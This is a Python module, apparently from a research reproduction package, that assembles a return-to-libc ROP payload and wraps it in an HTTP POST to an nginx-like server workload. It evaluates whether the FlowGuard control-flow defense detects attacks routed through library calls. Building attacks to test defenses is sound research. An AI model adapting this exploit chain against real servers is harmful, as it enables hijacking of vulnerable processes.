"""Return-to-lib(c) attack variant (§7.1.1).

The chain never issues a syscall of its own — it returns into the
library's composite ``write_str`` routine, which performs the sensitive
``write`` internally ("attackers invoke lib-calls instead of sys-calls
to trigger security-sensitive endpoints").  Because FlowGuard checks at
least ``pkt_count`` TIPs *spanning the executable and libraries*, the
hijacked edge before the library call is still inside the window.
"""

from __future__ import annotations

from repro.attacks.gadgets import find_gadgets
from repro.attacks.recon import ReconReport
from repro.attacks.rop import _p64, build_filler, frame_glue


def build_retlib_payload(
    recon: ReconReport,
    conn_fd: int = 4,
) -> bytes:
    gadgets = find_gadgets(recon.image)
    setcontext = gadgets.functions["setcontext"]
    write_str = gadgets.functions["write_str"]
    exit_fn = gadgets.functions["exit"]

    filler, path_addr, _ = build_filler(recon.body_addr)
    chain = b"".join(
        [
            # write_str(stdout, attacker_string) — the lib call does the
            # strlen + write internally.
            _p64(setcontext),
            _p64(1),
            _p64(path_addr),
            _p64(0),
            _p64(0),
            _p64(write_str),
            _p64(exit_fn),
        ]
    )
    return filler + frame_glue(recon, conn_fd) + chain


def build_retlib_request(recon: ReconReport, conn_fd: int = 4) -> bytes:
    from repro.workloads.servers import nginx_request

    return nginx_request("/x", "POST",
                         build_retlib_payload(recon, conn_fd))
